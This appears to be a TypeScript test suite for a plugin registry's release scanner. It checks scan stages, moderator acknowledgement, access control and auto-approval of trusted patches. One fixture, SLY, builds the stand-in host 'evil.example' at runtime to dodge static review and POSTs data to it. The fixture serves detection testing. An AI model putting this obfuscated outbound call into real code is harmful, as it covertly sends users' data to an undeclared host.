import { expect } from 'chai';
import { followScan } from '../../plugins-sdk/cli/commands/scan.ts';
import type { ServerRefusal } from '../../plugins-sdk/cli/errors.ts';
import type { Release, Scan } from '../../registry/index.ts';
import { startTestPlatform, type TestPlatform } from './test-platform.ts';

const CLEAN = `import { definePlugin } from '@gatehouse/plugin-sdk';
export default definePlugin()({ routes: { 'GET /': async (_request, { kv }) => kv.increment('count') } });
`;
/** Its host is put together from what it stores, so that only a run shows where it sends. */
const SLY = `import { definePlugin } from '@gatehouse/plugin-sdk';
export default definePlugin()({
  routes: {
    'POST /orders/:id': async (_request, { params, events }) => {
      await events.publish('orders', {}).catch(() => {});
      const place = Object.keys({ evil: 1, example: 2 }).join(params.id === '1' ? '.' : '-');
      return fetch('https://' + place + '/collect', { method: 'POST', body: 'x' });
    },
  },
});
`;
const KV = { name: 'kv' as const, reason: 'It counts how often it is called.' };
const FETCH = { name: 'fetch' as const, reason: 'It asks the shop about orders.' };

describe('The scan of a release', () => {
  let platform: TestPlatform;
  before(async () => {
    platform = await startTestPlatform({}, { scan: true });
  });
  after(() => platform.close());

  const ask = async (
    token: string,
    release: Pick<Release, 'id'>,
    body?: unknown,
  ): Promise<{ status: number; body: Scan & { code?: string } }> => {
    const response = await fetch(
      `${platform.host.url}/v1/releases/${release.id}/scan${body ? '/acknowledgement' : ''}`,
      {
        method: body ? 'POST' : 'GET',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        ...(body !== undefined && { body: JSON.stringify(body) }),
      },
    );
    return { status: response.status, body: (await response.json()) as Scan & { code?: string } };
  };
  const done = async (release: Release): Promise<Scan> => {
    for (;;) {
      const { body } = await ask(platform.credentials.publisher, release);
      if (body.stage === 'done') return body;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };
  const codeOf = (work: Promise<unknown>) =>
    work.then(
      () => 'done',
      (error: ServerRefusal) => error.code,
    );

  it('stands between publishing and review, and shows how far it is', async () => {
    const release = await platform.publish(
      await platform.writePlugin({
        source: CLEAN,
        manifest: { routes: [{ method: 'GET', path: '/', access: 'public' }], capabilities: [KV] },
      }),
    );
    expect(release.state).to.equal('scanning');
    const scan = await done(release);
    expect(scan.report).to.deep.include({ verdict: 'clean', findings: [], omitted: 0 });
    expect(scan.report?.dynamic).to.deep.include({ started: true, entries: 1, faults: 0, capabilities: ['kv'] });
    const { items } = await platform.as.publisher.listReleases({ plugin: release.plugin });
    expect(items[0]?.state).to.equal('in-review');
    expect((await platform.as.moderator.approveRelease(release.id)).state).to.equal('published');
  });

  it('shows hosts and capabilities that only a run shows, and holds the approval until somebody has seen them', async () => {
    const release = await platform.publish(
      await platform.writePlugin({
        source: SLY,
        manifest: {
          routes: [{ method: 'POST', path: '/orders/:id', access: 'public' }],
          capabilities: [FETCH],
          fetchHosts: ['api.example.com'],
        },
      }),
    );
    // A moderator who is faster than the scan waits for it.
    expect(await codeOf(platform.as.moderator.approveRelease(release.id))).to.equal('scan-unacknowledged');
    const stages: string[] = [];
    const { report } = await followScan(platform.as.publisher)(release.id, ({ stage }) => stages.push(stage));
    expect(stages.at(-1)).to.equal('done');
    expect(report?.verdict).to.equal('second-look');
    expect(report?.dynamic).to.deep.include({ undeclaredHosts: ['evil.example'], undeclaredCapabilities: ['events'] });
    expect(report?.findings.map(({ family, evidence }) => `${family} ${evidence}`)).to.include(
      'undeclared evil.example',
    );

    const { items } = await platform.as.publisher.listNotifications({});
    const held = items.find(({ kind }) => kind === 'release-held');
    expect(held?.subject).to.contain(`${release.plugin}@${release.version}`);
    expect(held?.body).to.contain('undeclared (').and.to.contain('gate scan');
    expect(items.filter(({ kind }) => kind === 'release-held')).to.have.length(1);

    const reason = { reason: 'Asked the publisher: the host is gone in the next release.' };
    expect((await ask(platform.credentials.publisher, release, reason)).status).to.equal(403);
    const { body } = await ask(platform.credentials.moderator, release, reason);
    expect(body.acknowledged?.reason).to.equal(reason.reason);
    expect((await platform.as.moderator.approveRelease(release.id)).state).to.equal('published');
  });

  it("is nobody's business but that of its publisher and of moderators", async () => {
    const [release] = (await platform.as.moderator.listReleases({})).items;
    expect((await ask(platform.credentials.operator, release!)).status).to.equal(403);
    const unknown = { id: '0199b7a0-5a3e-7c6b-8f7e-2f5d1c9f0a11' };
    expect((await ask(platform.credentials.moderator, unknown)).body).to.deep.include({ code: 'scan-unknown' });
    expect((await ask(platform.credentials.moderator, unknown, { reason: 'x' })).body).to.deep.include({
      code: 'scan-unknown',
    });
  });

  it('lets the rule approve a clean patch of a trusted publisher, and nothing that has a finding', async () => {
    const { as } = platform;
    const manifest = { name: 'trusted', routes: [{ method: 'GET' as const, path: '/', access: 'caller' as const }] };
    const publish = async (version: string, source = CLEAN) =>
      platform.publish(await platform.writePlugin({ source, manifest: { ...manifest, version, capabilities: [KV] } }));
    await as.moderator.approveRelease((await publish('1.0.0')).id);
    await as.admin.trustPublisher('acme-labs', 'Known for years.');
    const patch = await publish('1.0.1', CLEAN.replace("'count'", "'calls'"));
    const loud = await publish('1.0.2', CLEAN.replace("'count'", "String(eval('1'))"));
    await Promise.all([done(patch), done(loud)]);
    const deadline = Date.now() + 60_000;
    const stateOf = async ({ id }: Release) => (await as.moderator.findReview(id)).release.state;
    while ((await stateOf(patch)) !== 'published') expect(Date.now()).to.be.below(deadline);
    const { rounds } = await as.moderator.findReview(patch.id);
    expect(rounds[0]).to.include({ automatic: true, decision: 'approve' });
    const { release, notAutomatic, comparison } = await as.moderator.findReview(loud.id);
    expect(release.state).to.equal('in-review');
    expect(notAutomatic.join(' ')).to.contain('dynamic-code');
    expect(comparison!.findings!.added.map(({ id }) => id)).to.include('dynamic-code');
  });
});
